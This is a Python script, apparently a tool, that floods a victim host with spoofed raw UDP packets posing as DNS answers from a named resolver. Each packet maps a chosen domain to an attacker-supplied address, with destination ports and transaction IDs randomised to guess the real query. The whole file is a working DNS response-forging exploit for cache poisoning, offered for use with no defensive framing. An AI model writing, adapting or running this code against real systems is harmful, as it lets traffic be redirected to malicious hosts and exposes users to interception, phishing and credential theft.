"""Forges answers of a resolver: raw datagrams to random ports, with random ids, until killed.

forge.py RESOLVER VICTIM NAME ADDRESS PER_SECOND    says how many it sent, every second
"""
import os
import socket
import struct
import sys
import time

resolver, victim, name, address, per_second = sys.argv[1:6]
labels = b"".join(bytes([len(l)]) + l.encode() for l in name.split(".")) + b"\0"
message = struct.pack("!HHHHHH", 0, 0x8180, 1, 1, 0, 0) + labels + struct.pack("!HH", 1, 1)
message += b"\xc0\x0c" + struct.pack("!HHIH", 1, 1, 300, 4) + socket.inet_aton(address)
udp = struct.pack("!HHHH", 53, 0, 8 + len(message), 0)
head = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp) + len(message), 0, 0, 64, 17, 0,
                   socket.inet_aton(resolver), socket.inet_aton(victim))
packet = bytearray(head + udp + message)
raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
rate, sent, start, said = float(per_second), 0, time.monotonic(), 0
while True:
    for _ in range(50):
        random = os.urandom(4)
        struct.pack_into("!H", packet, 22, 32768 + int.from_bytes(random[:2], "big") % 28232)  # Linux's ephemeral ports
        packet[28:30] = random[2:]
        try:
            raw.sendto(packet, (victim, 0))
        except OSError:
            pass
    sent += 50
    now = time.monotonic() - start
    if int(now) > said:
        said = int(now)
        print(int(sent / now), flush=True)
    if sent / rate > now:
        time.sleep(sent / rate - now)
